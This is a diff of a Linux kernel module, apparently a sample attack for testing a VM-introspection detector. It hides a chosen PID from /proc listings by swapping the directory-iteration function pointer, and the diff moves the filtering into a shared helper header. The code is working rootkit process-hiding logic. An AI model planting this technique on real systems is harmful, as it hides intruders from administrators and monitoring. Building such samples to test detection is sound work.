@@ -19,6 +19,8 @@
 #include <linux/moduleparam.h>
 #include <linux/string.h>
 
+#include "vmiaas_attack_dirhide.h"
+
 static char *name = "1";
 module_param(name, charp, 0444);
 MODULE_PARM_DESC(name, "the /proc entry to hide (a pid)");
@@ -32,37 +34,17 @@ static struct inode *root_inode;
 /* the writable copy of the table: its function pointers, one replaced */
 static void *hide_fop[64];
 
-struct hide_ctx {
-	struct dir_context ctx;
-	struct dir_context *orig;
-};
-
-static bool vmiaas_attack_procroot_actor(struct dir_context *ctx,
-					 const char *entry, int len,
-					 loff_t off, u64 ino, unsigned int type)
+/* Whether @entry is the entry to hide; counted in @hits. */
+static bool vmiaas_attack_procroot_hidden(const char *entry, int len)
 {
-	struct hide_ctx *h = container_of(ctx, struct hide_ctx, ctx);
-
-	if (len == strlen(name) && !memcmp(entry, name, len)) {
-		WRITE_ONCE(hits, READ_ONCE(hits) + 1);
-		return true;
-	}
-	h->orig->pos = ctx->pos;
-	return h->orig->actor(h->orig, entry, len, off, ino, type);
+	return dirhide_match(name, entry, len, &hits);
 }
 
 static int vmiaas_attack_procroot_iterate(struct file *file,
 					  struct dir_context *ctx)
 {
-	struct hide_ctx h = {
-		.ctx.actor = vmiaas_attack_procroot_actor,
-		.ctx.pos = ctx->pos,
-		.orig = ctx,
-	};
-	int err = orig_fop->iterate_shared(file, &h.ctx);
-
-	ctx->pos = h.ctx.pos;
-	return err;
+	return dirhide_iterate(orig_fop, file, ctx,
+			       vmiaas_attack_procroot_hidden);
 }
 
 static int __init vmiaas_attack_procroot_init(void)
